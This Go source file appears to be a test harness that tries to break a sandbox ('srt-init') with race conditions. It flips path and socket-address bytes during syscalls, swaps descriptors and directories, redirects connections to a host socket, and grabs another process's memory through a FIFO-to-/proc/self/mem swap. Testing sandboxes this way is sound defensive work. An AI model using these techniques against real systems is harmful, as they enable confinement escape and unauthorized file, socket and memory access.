package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"strings"
	"sync"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// raceTechniques change what srt-init reads while it reads it: the text of a path,
// a socket address, what a descriptor means, what a name means. Where nothing
// checks, the forbidden outcome comes soon. The settings deny "name_b", which
// does not exist, "file_b" and "dirs_b"; "…_a" beside each is free.
var raceTechniques = []technique{
	{"race: open", raceCall("name", func(p uintptr) {
		if fd, _, e := unix.Syscall6(unix.SYS_OPENAT, cwdArg, p, unix.O_CREAT|unix.O_WRONLY, 0o600, 0, 0); e == 0 {
			unix.Close(int(fd))
		}
	})},
	{"race: mkdir", raceCall("name", func(p uintptr) { _ = rawCall(unix.SYS_MKDIRAT, cwdArg, p, 0o700) })},
	{"race: mknod", raceCall("name", func(p uintptr) { _ = rawCall(unix.SYS_MKNODAT, cwdArg, p, unix.S_IFIFO|0o600) })},
	{"race: symlink", raceCall("name", func(p uintptr) { _ = rawCall(unix.SYS_SYMLINKAT, p, cwdArg, p) })},
	{"race: link", raceCall("name", func(p uintptr) { _ = rawCall(unix.SYS_LINKAT, cwdArg, textOf("source"), cwdArg, p) })},
	{"race: rename", raceCall("name", func(p uintptr) {
		_ = unix.Mkdir("moving", 0o700)
		_ = rawCall(unix.SYS_RENAMEAT2, cwdArg, textOf("moving"), cwdArg, p)
	})},
	{"race: bind", raceBind},
	{"race: unlink", raceCall("file", func(p uintptr) { _ = rawCall(unix.SYS_UNLINKAT, cwdArg, p, 0) })},
	{"race: rename away", raceCall("file", func(p uintptr) { _ = rawCall(unix.SYS_RENAMEAT2, cwdArg, p, cwdArg, textOf("away")) })},
	{"race: truncate", raceCall("file", func(p uintptr) { _ = rawCall(unix.SYS_TRUNCATE, p, 0) })},
	{"race: truncating open", raceCall("file", func(p uintptr) {
		if fd, _, e := unix.Syscall6(unix.SYS_OPENAT, cwdArg, p, unix.O_TRUNC|unix.O_WRONLY, 0, 0, 0); e == 0 {
			unix.Close(int(fd))
		}
	})},
	{"race: chmod", raceCall("file", func(p uintptr) { _ = rawCall(unix.SYS_FCHMODAT, cwdArg, p, 0o601) })},
	{"race: rmdir", raceCall("dirs", func(p uintptr) { _ = rawCall(unix.SYS_UNLINKAT, cwdArg, p, unix.AT_REMOVEDIR) })},
	{"race: descriptor of a directory", raceDescriptor},
	{"race: directory becomes a link", raceParent},
	{"race: working directory of another thread", raceWorkingDirectory},
	{"race: connect", raceConnect},
	{"race: descriptor of a socket", raceSocket},
	{"memory: by a FIFO that becomes a link", fifoToMemory},
	{"memory: by a FIFO and a link that change places", raceFIFO},
}

const cwdArg = ^uintptr(99) // AT_FDCWD

// raceTime bounds each race. The control ends when it is won, which takes long
// where there is one processor, or others want it.
func raceTime() time.Duration {
	if os.Getenv("RACE_CONTROL") != "" {
		return 3 * time.Minute
	}
	return 400 * time.Millisecond
}

func rawCall(nr uintptr, args ...uintptr) error {
	var a [6]uintptr
	copy(a[:], args)
	if _, _, e := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5]); e != 0 {
		return e
	}
	return nil
}

var texts sync.Map

// textOf returns the address of a path that stays where it is.
func textOf(s string) uintptr {
	p, _ := texts.LoadOrStore(s, append([]byte(s), 0))
	return uintptr(unsafe.Pointer(&p.([]byte)[0]))
}

// race calls change in two threads and attempt in this one until forbidden
// reports that the attack succeeded, or the time is over.
func race(change, attempt func(), forbidden func() bool) error {
	stop := make(chan struct{})
	var wait sync.WaitGroup
	for range 2 {
		wait.Go(func() {
			for {
				select {
				case <-stop:
					return
				default:
					change()
				}
			}
		})
	}
	defer func() { close(stop); wait.Wait() }()
	for end := time.Now().Add(raceTime()); time.Now().Before(end); {
		if attempt(); forbidden() {
			return nil
		}
	}
	return unix.EPERM
}

// store is a plain store that the compiler does not leave out. The race is meant.
//
//go:noinline
//go:norace
func store(p *byte, value byte) { *p = value }

// raceCall flips the last letter of a path under a call that takes its address.
func raceCall(kind string, attempt func(path uintptr)) func() error {
	return func() error {
		if err := raceTree(); err != nil {
			return err
		}
		path := []byte(kind + "_a\x00")
		last := len(path) - 2
		if os.Getenv("RACE_CONTROL") != "" { // the race before may have been won
			renew(kind + "_b")
		}
		was := stateOf(kind + "_b")
		change := func() { store(&path[last], 'b'); store(&path[last], 'a') }
		return race(change, func() {
			attempt(uintptr(unsafe.Pointer(&path[0])))
			renew(kind + "_a")
		}, func() bool { return stateOf(kind+"_b") != was })
	}
}

// raceTree makes what the races work on, but for what the settings protect.
func raceTree() error {
	for _, name := range []string{"away", "moving", "outer", "turn"} {
		_ = os.RemoveAll(name)
	}
	for _, name := range []string{"source", "file_a"} {
		if err := os.WriteFile(name, []byte("x"), 0o600); err != nil {
			return err
		}
	}
	for _, name := range []string{"dirs_a", "outer"} {
		if err := os.Mkdir(name, 0o700); err != nil && !errors.Is(err, os.ErrExist) {
			return err
		}
	}
	return nil
}

// renew undoes what happened to a name.
func renew(name string) {
	switch name[:4] {
	case "name":
		_ = os.RemoveAll(name)
	case "file":
		_ = os.WriteFile(name, []byte("kept"), 0o600)
		_ = os.Chmod(name, 0o600)
	case "dirs":
		_ = os.Mkdir(name, 0o700)
	}
}

// stateOf tells what there is at a name, to see whether it changed.
func stateOf(name string) string {
	var st unix.Stat_t
	if err := unix.Lstat(name, &st); err != nil {
		return err.Error()
	}
	return fmt.Sprint(st.Ino, st.Mode, st.Size)
}

func raceBind() error {
	if err := raceTree(); err != nil {
		return err
	}
	if os.Getenv("RACE_CONTROL") != "" {
		renew("name_b")
	}
	address := append(binary.NativeEndian.AppendUint16(nil, unix.AF_UNIX), "name_a\x00"...)
	last := len(address) - 2
	return race(func() { store(&address[last], 'b'); store(&address[last], 'a') }, func() {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
		if err != nil {
			return
		}
		_ = rawCall(unix.SYS_BIND, uintptr(fd), uintptr(unsafe.Pointer(&address[0])), uintptr(len(address)))
		unix.Close(fd)
		_ = os.Remove("name_a")
	}, func() bool { return unix.Access("name_b", unix.F_OK) == nil })
}

// raceDescriptor flips a number between a free and the protected directory.
func raceDescriptor() error {
	if err := raceTree(); err != nil {
		return err
	}
	_ = os.RemoveAll("name_b")
	free, err1 := unix.Open("outer", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	protected, err2 := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	moving, err3 := unix.Dup(free)
	if err := errors.Join(err1, err2, err3); err != nil {
		return err
	}
	return race(func() { _ = unix.Dup3(protected, moving, 0); _ = unix.Dup3(free, moving, 0) }, func() {
		_ = unix.Mkdirat(moving, "name_b", 0o700)
		_ = unix.Unlinkat(free, "name_b", unix.AT_REMOVEDIR)
	}, func() bool { return unix.Access("name_b", unix.F_OK) == nil })
}

// raceParent exchanges a directory on the way for a link to the protected one.
func raceParent() error {
	if err := raceTree(); err != nil {
		return err
	}
	_ = os.RemoveAll("name_b")
	_ = os.Remove("turn")
	if err := os.Symlink(".", "turn"); err != nil {
		return err
	}
	return race(func() { _ = swapNames("turn", "outer") }, func() {
		_ = unix.Rmdir("outer/name_b")
		_ = unix.Rmdir("turn/name_b")
		_ = unix.Mkdir("outer/name_b", 0o700)
	}, func() bool { return unix.Access("name_b", unix.F_OK) == nil })
}

// raceWorkingDirectory moves all threads back and forth while one of them calls.
func raceWorkingDirectory() error {
	if err := raceTree(); err != nil {
		return err
	}
	_ = os.RemoveAll("name_b")
	top, err := os.Getwd()
	if err != nil {
		return err
	}
	defer func() { _ = os.Chdir(top) }()
	return race(func() { _ = unix.Chdir(top + "/outer"); _ = unix.Chdir(top) }, func() {
		_ = unix.Mkdir("name_b", 0o700)
		_ = unix.Rmdir(top + "/outer/name_b")
	}, func() bool { return unix.Access(top+"/name_b", unix.F_OK) == nil })
}

// raceConnect flips an address between a socket of the command's own and one of
// the host, $ATTACK_STREAM, whose name differs in the last letter only.
func raceConnect() error {
	host := os.Getenv("ATTACK_STREAM")
	own := host[:len(host)-1] + "a"
	_ = os.Remove(own)
	server, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
	if err == nil {
		err = unix.Bind(server, &unix.SockaddrUnix{Name: own})
	}
	if err == nil {
		err = unix.Listen(server, 16)
	}
	if err != nil {
		return err
	}
	defer unix.Close(server)
	address := append(binary.NativeEndian.AppendUint16(nil, unix.AF_UNIX), own+"\x00"...)
	last, letter := len(address)-2, host[len(host)-1]
	reached := false
	return race(func() { store(&address[last], letter); store(&address[last], 'a') }, func() {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
		if err != nil {
			return
		}
		defer unix.Close(fd)
		if rawCall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&address[0])), uintptr(len(address))) == nil {
			peer, _ := unix.Getpeername(fd)
			name, ok := peer.(*unix.SockaddrUnix)
			reached = reached || ok && name.Name == host
		}
		if peer, _, err := unix.Accept4(server, 0); err == nil {
			unix.Close(peer)
		}
	}, func() bool { return reached })
}

// raceSocket flips a number between a TCP socket, which any address may be given
// to, and a Unix socket.
func raceSocket() error {
	host := os.Getenv("ATTACK_STREAM")
	tcp, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return err
	}
	stream, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return err
	}
	moving, err := unix.Dup(tcp)
	if err != nil {
		return err
	}
	return race(func() { _ = unix.Dup3(stream, moving, 0); _ = unix.Dup3(tcp, moving, 0) }, func() {
		_ = unix.Connect(moving, &unix.SockaddrUnix{Name: host})
	}, func() bool { _, err := unix.Getpeername(stream); return err == nil })
}

// gotMemory reports whether a descriptor is the memory of another process; in
// the control the own one, for there nobody opens in the caller's place.
func gotMemory(fd int) bool {
	name, err := os.Readlink(fmt.Sprint("/proc/self/fd/", fd))
	if err != nil || !strings.HasSuffix(name, "/mem") {
		return false
	}
	own := strings.HasPrefix(name, fmt.Sprintf("/proc/%d/", os.Getpid()))
	return own == (os.Getenv("RACE_CONTROL") != "")
}

// fifoToMemory puts a link to /proc/self/mem in the place of a FIFO while an open
// of that waits.
func fifoToMemory() error {
	for _, name := range []string{"fifo", "fifo2", "tomemory"} {
		_ = os.Remove(name)
	}
	if err := errors.Join(unix.Mkfifo("fifo", 0o600), os.Link("fifo", "fifo2"), os.Symlink("/proc/self/mem", "tomemory")); err != nil {
		return err
	}
	opened := make(chan bool)
	go func() {
		fd, err := unix.Open("fifo", unix.O_WRONLY|unix.O_CREAT, 0o600)
		opened <- err == nil && gotMemory(fd)
	}()
	time.Sleep(20 * time.Millisecond)
	if err := os.Rename("tomemory", "fifo"); err != nil {
		return err
	}
	time.Sleep(20 * time.Millisecond)
	if os.Getenv("RACE_CONTROL") != "" { // the open that comes after the exchange
		if fd, err := unix.Open("fifo", unix.O_WRONLY|unix.O_CREAT, 0o600); err == nil && gotMemory(fd) {
			return nil
		}
	}
	other, err := unix.Open("fifo2", unix.O_RDONLY|unix.O_NONBLOCK, 0) // lets the waiting one go
	if err != nil {
		return err
	}
	defer unix.Close(other)
	if <-opened {
		return nil
	}
	return unix.EPERM
}

func raceFIFO() error {
	for _, name := range []string{"fifo", "tomemory"} {
		_ = os.Remove(name)
	}
	if err := errors.Join(unix.Mkfifo("fifo", 0o600), os.Symlink("/proc/self/mem", "tomemory")); err != nil {
		return err
	}
	both, err := unix.Open("fifo", unix.O_RDWR, 0) // nobody waits
	if err != nil {
		return err
	}
	defer unix.Close(both)
	reached := false
	return race(func() { _ = swapNames("fifo", "tomemory") }, func() {
		fd, err := unix.Open("fifo", unix.O_WRONLY|unix.O_CREAT, 0o600)
		if err == nil {
			reached = reached || gotMemory(fd)
			unix.Close(fd)
		}
	}, func() bool { return reached })
}
